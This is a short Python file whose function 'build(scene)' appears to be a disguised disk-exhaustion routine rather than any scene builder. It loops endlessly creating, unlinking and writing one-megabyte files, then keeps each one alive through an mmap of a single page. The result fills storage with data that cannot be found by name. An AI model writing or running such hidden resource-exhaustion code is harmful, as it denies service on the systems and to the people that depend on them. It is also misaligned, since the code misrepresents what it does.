import ctypes
import os


def build(scene):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    while True:
        file = os.open("filler", os.O_RDWR | os.O_CREAT)
        os.unlink("filler")
        os.write(file, bytes(1_000_000))
        libc.mmap(None, 4096, 1, 1, file, 0)  # a page of it keeps all of it
        os.close(file)
